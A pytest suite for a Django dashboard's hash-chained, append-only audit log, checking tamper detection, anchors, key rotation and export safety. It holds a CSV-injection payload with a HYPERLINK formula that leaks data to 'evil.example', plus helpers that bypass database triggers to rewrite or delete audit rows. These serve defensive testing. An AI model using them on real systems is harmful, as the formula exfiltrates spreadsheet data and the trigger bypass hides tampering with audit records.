import csv
import io
import json
import threading

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connection, connections, transaction
from django.urls import reverse

from deployments.audit import audit
from deployments.audit.signing import GENESIS_HASH, event_hash
from deployments.audit.verification import verify_chain
from deployments.models import AuditEvent, EnvironmentMembership


def _write_events(count: int):
    return [audit(action="test.event", actor_name="tester", details={"n": n}) for n in range(count)]


@pytest.mark.django_db
def test_it_chains_each_event_to_the_previous_one():
    first, second, third = _write_events(3)
    assert [first.seq, second.seq, third.seq] == [1, 2, 3]
    assert first.prev_hash == GENESIS_HASH
    assert second.prev_hash == first.hash
    assert third.prev_hash == second.hash
    assert verify_chain().ok
    assert verify_chain().checked == 3


@pytest.mark.django_db
def test_it_hashes_what_the_database_gives_back():
    # Values that JSON or the database would normalise must hash the same after a round trip.
    audit(action="test.event", details={"b": 1.0, "a": [1, "é", None], "z": {"y": True}}, after={"when": 3})
    stored = AuditEvent.objects.get()
    assert event_hash(stored) == stored.hash


@pytest.mark.django_db
def test_it_is_written_in_the_callers_transaction():
    def failing_change():
        with transaction.atomic():
            audit(action="test.event")
            raise RuntimeError("the change failed")

    with pytest.raises(RuntimeError):
        failing_change()
    assert not AuditEvent.objects.exists()


@pytest.mark.django_db
def test_the_orm_refuses_to_edit_or_delete_events():
    (event,) = _write_events(1)
    event.action = "test.other"
    with pytest.raises(TypeError):
        event.save()
    with pytest.raises(TypeError):
        event.delete()
    with pytest.raises(TypeError):
        AuditEvent.objects.filter(pk=event.pk).update(action="x")
    with pytest.raises(TypeError):
        AuditEvent.objects.all().delete()


@pytest.mark.django_db
def test_the_api_lists_filters_and_pages_events(client, viewer, token_for):
    header = token_for(viewer)  # writes api_token.created as seq 1
    for n in range(5):
        audit(action="deployment.requested" if n % 2 else "deployment.approved", actor_name=f"user{n % 2}")
    response = client.get(reverse("api:audit"), {"action": "deployment.", "limit": 2}, HTTP_AUTHORIZATION=header)
    body = response.json()
    assert [e["seq"] for e in body["results"]] == [6, 5]
    second = client.get(body["next"], HTTP_AUTHORIZATION=header).json()
    assert [e["seq"] for e in second["results"]] == [4, 3]
    third = client.get(second["next"], HTTP_AUTHORIZATION=header).json()
    assert [e["seq"] for e in third["results"]] == [2]
    assert third["next"] is None
    by_actor = client.get(reverse("api:audit"), {"actor": "user1"}, HTTP_AUTHORIZATION=header).json()
    assert {e["action"] for e in by_actor["results"]} == {"deployment.requested"}
    assert set(body["results"][0]) >= {"seq", "at", "actor", "action", "object_type", "object_id", "details"}


@pytest.mark.django_db
@pytest.mark.parametrize(("params", "path"), [({"since": "yesterday"}, "since"), ({"limit": "0"}, "limit")])
def test_the_api_names_a_bad_filter(client, viewer, token_for, params, path):
    response = client.get(reverse("api:audit"), params, HTTP_AUTHORIZATION=token_for(viewer))
    assert response.status_code == 400
    assert response.json()["errors"][0]["path"] == path


@pytest.mark.django_db
def test_the_page_lists_events_with_filters(client, viewer):
    audit(action="deployment.approved", actor_name="carol")
    audit(action="user.login", actor_name="dave")
    client.force_login(viewer)
    page = client.get(reverse("audit"), {"actor": "carol"}).content.decode()
    assert "deployment.approved" in page
    assert "dave" not in page
    # One malformed filter is named and left out; the others still apply.
    page = client.get(reverse("audit"), {"actor": "carol", "since": "yesterday"}).content.decode()
    assert "&#x27;since&#x27; must be a date" in page
    assert "the others apply" in page
    assert "deployment.approved" in page
    assert "dave" not in page


@pytest.mark.django_db
def test_verify_reports_an_intact_chain(client, viewer, token_for):
    _write_events(4)
    body = client.get(reverse("api:audit-verify"), HTTP_AUTHORIZATION=token_for(viewer)).json()
    assert body == {"ok": True, "checked": 5, "first_bad_seq": None}


def _tamper(sql: str, params=None):
    """What someone with raw database access could do: bypass the triggers."""
    with transaction.atomic(), connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            # A superuser can switch triggers off for a session; the chain still tells.
            cursor.execute("SET LOCAL session_replication_role = replica")
            cursor.execute(sql, params)
            cursor.execute("SET LOCAL session_replication_role = DEFAULT")
            return
        # Whoever can write an SQLite file can drop its triggers (and put them back).
        cursor.execute("SELECT sql FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'deployments_auditevent'")
        triggers = [row[0] for row in cursor.fetchall()]
        cursor.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'deployments_auditevent'")
        for (name,) in cursor.fetchall():
            cursor.execute(f'DROP TRIGGER "{name}"')
        for statement in sql.split(";"):
            if statement.strip():
                cursor.execute(statement, params)
        for trigger in triggers:
            cursor.execute(trigger)


def _unkeyed_hash(event) -> str:
    """The chain's hash as the attacker of finding 2 recomputed it: the
    project's own unkeyed SHA-256 over the canonical event (no key id)."""
    import hashlib

    from deployments.audit.signing import _payload, canonical

    payload = {key: value for key, value in _payload(event).items() if key != "key_id"}
    return hashlib.sha256(canonical(payload)).hexdigest()


_REWRITE = "UPDATE deployments_auditevent SET actor_name = %s, prev_hash = %s, hash = %s WHERE seq = %s"
# The same, passing the event off as one written before the chain was keyed.
_REWRITE_AS_LEGACY = (
    "UPDATE deployments_auditevent SET actor_name = %s, prev_hash = %s, hash = %s, key_id = '' WHERE seq = %s"
)


def _rewrite_from(seq: int, sql: str = _REWRITE, **changes):
    """Change event `seq` and re-link every later event with recomputed unkeyed hashes."""
    events = list(AuditEvent.objects.filter(seq__gte=seq).order_by("seq"))
    prev_hash = events[0].prev_hash
    for event in events:
        for field, value in changes.items() if event.seq == seq else ():
            setattr(event, field, value)
        event.prev_hash = prev_hash
        event.hash = prev_hash = _unkeyed_hash(event)
        _tamper(sql, [event.actor_name, event.prev_hash, event.hash, event.seq])


# Issue 17, finding 2: a database writer without the key can neither rewrite
# the chain nor cut its end off unnoticed.


@pytest.mark.django_db
def test_a_rewrite_with_recomputed_unkeyed_hashes_is_detected():
    _write_events(5)
    _rewrite_from(3, actor_name="mallory")
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == 3
    with pytest.raises(CommandError, match="seq 3"):
        call_command("verify_audit")


@pytest.mark.django_db
def test_deleting_the_newest_events_is_detected_against_the_last_anchor(settings, tmp_path):
    from deployments.audit.anchors import anchor_chain

    settings.AUDIT_ANCHOR_DIR = tmp_path / "audit-anchors"
    _write_events(15)
    anchor = anchor_chain()
    assert anchor["seq"] == 15
    assert verify_chain().ok
    _tamper("DELETE FROM deployments_auditevent WHERE seq > 5")
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == 6
    assert "anchor" in report.problem
    with pytest.raises(CommandError, match="anchor"):
        call_command("verify_audit")


@pytest.mark.django_db
def test_rewriting_the_whole_chain_as_unkeyed_events_is_detected_against_the_last_anchor(settings, tmp_path):
    from deployments.audit.anchors import anchor_chain

    settings.AUDIT_ANCHOR_DIR = tmp_path / "audit-anchors"
    _write_events(5)
    anchor_chain()
    _rewrite_from(1, _REWRITE_AS_LEGACY, actor_name="mallory")
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == 1


@pytest.mark.django_db
def test_the_anchor_file_is_owner_only_and_each_line_is_signed(settings, tmp_path):
    from deployments.audit.anchors import anchor_chain

    settings.AUDIT_ANCHOR_DIR = tmp_path / "audit-anchors"
    _write_events(2)
    anchor_chain()
    _write_events(1)
    anchor_chain()
    anchor_chain()  # nothing new: no line
    files = list(settings.AUDIT_ANCHOR_DIR.iterdir())
    assert len(files) == 1
    assert settings.AUDIT_ANCHOR_DIR.stat().st_mode & 0o777 == 0o700
    assert files[0].stat().st_mode & 0o777 == 0o600
    lines = [json.loads(line) for line in files[0].read_text().splitlines()]
    assert [line["seq"] for line in lines] == [2, 3]
    assert {"at", "seq", "hash", "key_id", "legacy_through", "mac"} <= set(lines[0])
    assert lines[1]["hash"] == AuditEvent.objects.get(seq=3).hash


@pytest.mark.django_db
def test_rotation_keeps_old_events_verifying(settings):
    old, new = "old:" + "o" * 43, "new:" + "n" * 43
    settings.AUDIT_KEYS = [old]
    _write_events(2)
    settings.AUDIT_KEYS = [new, old]  # the newest signs, all verify
    _write_events(2)
    assert list(AuditEvent.objects.order_by("seq").values_list("key_id", flat=True)) == ["old", "old", "new", "new"]
    assert verify_chain().ok
    settings.AUDIT_KEYS = [new]  # removed too early
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == 1
    assert "'old'" in report.problem


@pytest.mark.django_db
def test_the_database_refuses_updates_and_deletes():
    (event,) = _write_events(1)
    for sql in ["UPDATE deployments_auditevent SET action = 'x'", "DELETE FROM deployments_auditevent"]:
        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(sql)
    assert AuditEvent.objects.get().action == event.action


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("sql", "bad_seq"),
    [
        ("UPDATE deployments_auditevent SET details = '{\"n\": 99}' WHERE seq = 3", 3),
        ("DELETE FROM deployments_auditevent WHERE seq = 2", 3),
        # Swap two rows' places in the sequence.
        (
            "UPDATE deployments_auditevent SET seq = CASE seq WHEN 2 THEN -4 WHEN 4 THEN -2 END WHERE seq IN (2, 4);"
            "UPDATE deployments_auditevent SET seq = -seq WHERE seq < 0",
            2,
        ),
    ],
    ids=["edit", "delete", "reorder"],
)
def test_verify_finds_the_first_tampered_event(sql, bad_seq):
    _write_events(5)
    _tamper(sql)
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == bad_seq
    with pytest.raises(CommandError, match=f"seq {bad_seq}"):
        call_command("verify_audit")


@pytest.mark.django_db
def test_deleting_a_user_keeps_their_events_verifiable(django_user_model):
    user = django_user_model.objects.create_user("leaver")
    audit(action="test.event", actor=user)
    user.delete()
    event = AuditEvent.objects.get()
    assert event.actor is None
    assert event.actor_name == "leaver"
    assert verify_chain().ok


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_concurrent_writers_form_one_linear_chain():
    writers, per_writer = 50, 4
    barrier = threading.Barrier(writers)
    errors = []

    def write(n):
        try:
            barrier.wait()
            for i in range(per_writer):
                with transaction.atomic():
                    audit(action="test.concurrent", actor_name=f"writer{n}", details={"i": i})
        except Exception as exc:  # collected and asserted below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=write, args=(n,)) for n in range(writers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert list(AuditEvent.objects.order_by("seq").values_list("seq", flat=True)) == list(
        range(1, writers * per_writer + 1)
    )
    report = verify_chain()
    assert report.ok
    assert report.checked == writers * per_writer


def test_the_log_filters_by_environment_exports_and_shows_each_objects_history(client, admin, django_user_model):
    from deployments.services.deployments import deployment_create
    from deployments.services.repositories import repository_load_example
    from tests.archives import EXAMPLES
    from tests.engine import local_target

    repository = repository_load_example(path=EXAMPLES / "add_sub", actor=admin).repository
    dev, prod = local_target("local-dev", "dev"), local_target("local-prod", "prod", approvals=1)
    in_dev = deployment_create(name="in-dev", repository=repository, target=dev, actor=admin)
    deployment_create(name="in-prod", repository=repository, target=prod, actor=admin)
    client.force_login(admin)

    page = client.get(reverse("audit"), {"environment": "prod"}).content.decode()
    assert "in-prod" in page
    assert "in-dev" not in page
    exported = client.get(reverse("audit-export-csv"), {"environment": "dev"})
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert {row["object_repr"] for row in rows} == {"in-dev"}
    assert [row["action"] for row in rows] == ["deployment.requested"]
    as_json = json.loads(b"".join(client.get(reverse("audit-export-json")).streaming_content))
    assert [event["seq"] for event in as_json] == sorted(event["seq"] for event in as_json)
    assert {"hash", "environment", "before", "after"} <= set(as_json[0])

    history = client.get(reverse("deployment", args=[in_dev.pk])).content.decode()
    assert "deployment.requested" in history
    assert f"object=deployments.deployment%3A{in_dev.pk}" in history

    # A member of dev only reads dev's events.
    member = django_user_model.objects.create_user("dev-viewer", password="a-long-test-password-42")
    EnvironmentMembership.objects.create(user=member, environment=dev.environment, role="viewer")
    client.force_login(member)
    page = client.get(reverse("audit")).content.decode()
    assert "in-dev" in page
    assert "in-prod" not in page
    assert "repository.uploaded" not in page
    assert verify_chain().ok


# Issue 17, finding 6: a moment out of range or not a moment at all is the
# client's mistake, a 400 naming the filter, never a 500.
OUT_OF_RANGE = "0001-01-01T00:00:00+14:00"  # 13 December of year 0 in UTC: before datetime.min


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["since", "until"])
def test_the_api_names_a_moment_out_of_range(client, viewer, token_for, name):
    response = client.get(reverse("api:audit"), {name: OUT_OF_RANGE}, HTTP_AUTHORIZATION=token_for(viewer))
    assert response.status_code == 400
    assert response.json()["errors"][0]["path"] == name


@pytest.mark.django_db
@pytest.mark.parametrize("value", [OUT_OF_RANGE, "garbage"])
def test_the_page_answers_400_naming_a_bad_moment(client, viewer, value):
    client.force_login(viewer)
    response = client.get(reverse("audit"), {"since": value})
    assert response.status_code == 400
    assert "&#x27;since&#x27; must be a date" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("value", [OUT_OF_RANGE, "garbage"])
def test_the_export_answers_400_naming_a_bad_moment(client, viewer, fmt, value):
    client.force_login(viewer)
    response = client.get(reverse(f"audit-export-{fmt}"), {"since": value})
    assert response.status_code == 400
    assert "'since' must be a date" in response.content.decode()


# Issue 17, finding 10: spreadsheets run a cell that starts with =, +, -, @,
# tab or carriage return as a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _exported_rows(client, **params):
    exported = client.get(reverse("audit-export-csv"), params)
    return list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode(), newline="")))


def test_the_csv_export_neutralises_a_repository_named_as_a_formula(client, admin):
    from deployments.services.repositories import repository_import
    from tests.archives import EXAMPLES

    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    repository_import(name=name, path=str(EXAMPLES / "add_sub"), actor=admin)
    client.force_login(admin)
    header, *rows = _exported_rows(client, action="repository.")
    (row,) = [row for row in rows if name in row[header.index("object_repr")]]
    assert row[header.index("object_repr")].startswith("'" + name)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.django_db
def test_the_csv_export_neutralises_every_formula_start(client, viewer):
    for start in FORMULA_STARTS:
        audit(action="test.event", actor_name=f"{start}x", object_repr=f"{start}1+1")
    client.force_login(viewer)
    header, *rows = _exported_rows(client, action="test.event")
    cells = [row[header.index(field)] for row in rows for field in ("actor", "object_repr")]
    assert len(cells) == 2 * len(FORMULA_STARTS)
    assert all(cell.startswith("'") for cell in cells), cells
    # Only the quote is added: the value is still readable as it was.
    assert sorted(cell[1:] for cell in cells) == sorted(
        [f"{s}x" for s in FORMULA_STARTS] + [f"{s}1+1" for s in FORMULA_STARTS]
    )


def _legacy_events(count: int):
    """Events as the dashboard wrote them before its chain was keyed."""
    from django.utils import timezone

    events, prev_hash = [], GENESIS_HASH
    for n in range(count):
        event = AuditEvent(seq=n + 1, at=timezone.now(), actor_name="old-timer", action="test.legacy", details={"n": n})
        event.prev_hash = prev_hash
        event.hash = prev_hash = event_hash(event)  # no key_id: plain SHA-256
        event.save()
        events.append(event)
    return events


@pytest.mark.django_db
def test_unkeyed_events_from_before_the_key_stay_a_legacy_prefix_the_first_anchor_seals():
    from deployments.audit.anchors import anchor_chain

    _legacy_events(3)
    keyed = _write_events(2)
    assert keyed[0].prev_hash == AuditEvent.objects.get(seq=3).hash  # the key continues the old chain
    assert [e.key_id for e in AuditEvent.objects.order_by("seq")][2:4] == ["", keyed[0].key_id]
    assert verify_chain().ok
    assert anchor_chain()["legacy_through"] == 3
    _write_events(1)
    assert anchor_chain()["legacy_through"] == 3  # sealed once, carried on

    # The legacy prefix can no longer be rewritten: the first keyed event's MAC covers its link.
    _rewrite_from(2, actor_name="mallory")
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == 4


@pytest.mark.django_db
def test_an_unkeyed_event_after_keyed_ones_is_refused():
    _write_events(3)
    _rewrite_from(3, _REWRITE_AS_LEGACY, actor_name="mallory")
    report = verify_chain()
    assert (report.ok, report.first_bad_seq) == (False, 3)
    assert "unkeyed" in report.problem


@pytest.mark.django_db
def test_an_edited_anchor_line_is_reported(audit_anchors):
    from deployments.audit.anchors import anchor_chain

    _write_events(5)
    anchor_chain()
    path = next(audit_anchors.iterdir())
    path.write_text(path.read_text().replace('"seq":5', '"seq":4'))
    report = verify_chain()
    assert not report.ok
    assert "MAC" in report.problem
    with pytest.raises(CommandError, match="edited"):
        call_command("verify_audit")


@pytest.mark.django_db
def test_verify_audit_says_how_far_the_chain_is_anchored():
    from deployments.audit.anchors import anchor_chain

    _write_events(2)
    out = io.StringIO()
    call_command("verify_audit", stdout=out)
    assert "not anchored yet" in out.getvalue()
    anchor_chain()
    out = io.StringIO()
    call_command("verify_audit", stdout=out)
    assert "anchored: seq 2" in out.getvalue()


@pytest.mark.django_db
def test_beat_anchors_the_chain_and_posts_the_anchor_to_the_webhook(settings, audit_anchors):
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from workers.tasks import anchor_audit

    received = []

    class Receiver(BaseHTTPRequestHandler):
        def do_POST(self):
            received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Receiver)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        settings.AUDIT_ANCHOR_WEBHOOK_URL = f"http://127.0.0.1:{server.server_port}/anchors"
        entry = settings.CELERY_BEAT_SCHEDULE["audit-anchor"]
        assert (entry["task"], settings.CELERY_TASK_ROUTES[entry["task"]]["queue"]) == (
            "workers.anchor_audit",
            "periodic",
        )
        _write_events(3)
        assert anchor_audit() == {"seq": 3}
    finally:
        server.shutdown()
        server.server_close()
    (line,) = [json.loads(raw) for raw in next(audit_anchors.iterdir()).read_text().splitlines()]
    assert received == [line]


@pytest.mark.django_db(transaction=True)
def test_a_transactional_test_still_flushes_the_append_only_log():
    # Its teardown empties every table: a TRUNCATE on PostgreSQL, which the
    # row triggers do not see, and on SQLite a DELETE past them (conftest.py).
    _write_events(2)
    assert verify_chain().ok


@pytest.mark.postgres
@pytest.mark.redis
@pytest.mark.django_db(transaction=True)
def test_a_real_worker_anchors_the_chain_when_beat_sends_the_job(settings, audit_anchors, tmp_path):
    import redis

    from tests import processes
    from workers.tasks import anchor_audit

    redis.Redis.from_url(settings.CELERY_BROKER_URL).flushdb()
    _write_events(4)
    env = processes.child_env(
        DATABASE_URL=processes.test_database_url(),
        STORAGE_ROOT=str(settings.STORAGE_ROOT),
        AUDIT_ANCHOR_DIR=str(audit_anchors),
    )
    worker = processes.start(processes.celery_worker("anchor-worker"), env=env, log=tmp_path / "worker.log")
    path = audit_anchors / "anchors.jsonl"
    try:
        anchor_audit.delay()  # what beat sends every AUDIT_ANCHOR_INTERVAL, to the periodic queue
        processes.wait_for(
            lambda: path.exists() and path.read_text().strip(), within=60, what="an anchor line", process=worker
        )
    finally:
        processes.stop(worker)
    # Signed with the key the worker read from VAR_DIR, which this process reads too.
    report = verify_chain()
    assert (report.ok, report.anchored_seq) == (True, 4)
    _tamper("DELETE FROM deployments_auditevent WHERE seq > 2")
    assert verify_chain().first_bad_seq == 3


@pytest.mark.django_db
def test_the_anchor_also_goes_to_syslog(settings, audit_anchors):
    import socket

    from deployments.audit.anchors import anchor_chain

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", 0))
        receiver.settimeout(10)  # bounds a lost datagram; not a speed check
        settings.AUDIT_ANCHOR_SYSLOG = f"127.0.0.1:{receiver.getsockname()[1]}"
        _write_events(2)
        line = anchor_chain()
        message = receiver.recv(65536).decode()
    assert message.startswith("<38>")  # facility auth (4) * 8 + severity info (6)
    assert json.loads(message.partition("triton-dashboard audit anchor ")[2].rstrip("\x00")) == line


@pytest.mark.django_db
def test_an_anchor_never_vouches_for_a_chain_that_does_not_verify(audit_anchors):
    from deployments.audit.anchors import AnchorRefused, anchor_chain

    _write_events(3)
    anchor_chain()
    _write_events(2)
    _rewrite_from(4, actor_name="mallory")  # after the last anchor, before the next
    with pytest.raises(AnchorRefused, match="seq 4: content does not match its hash"):
        anchor_chain()
    assert len((audit_anchors / "anchors.jsonl").read_text().splitlines()) == 1
    assert verify_chain().first_bad_seq == 4


@pytest.mark.django_db
def test_the_first_anchor_checks_the_whole_chain(audit_anchors):
    from deployments.audit.anchors import AnchorRefused, anchor_chain

    _write_events(3)
    _rewrite_from(2, actor_name="mallory")
    with pytest.raises(AnchorRefused, match="seq 2"):
        anchor_chain()
    assert not list(audit_anchors.iterdir())
